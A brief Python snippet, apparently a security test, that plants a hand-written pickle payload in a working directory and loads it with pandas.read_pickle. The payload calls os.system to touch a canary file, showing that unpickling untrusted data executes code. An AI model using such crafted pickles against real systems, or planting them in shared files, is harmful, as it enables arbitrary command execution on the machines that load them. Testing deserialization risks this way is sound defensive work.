# read_pickle of a __reduce__ payload planted in the workdir
import pandas as pd
payload = b"cos\nsystem\n(S'touch {CANARY}'\ntR."
with open("evil.pkl", "wb") as f:
    f.write(payload)
pd.read_pickle("evil.pkl")
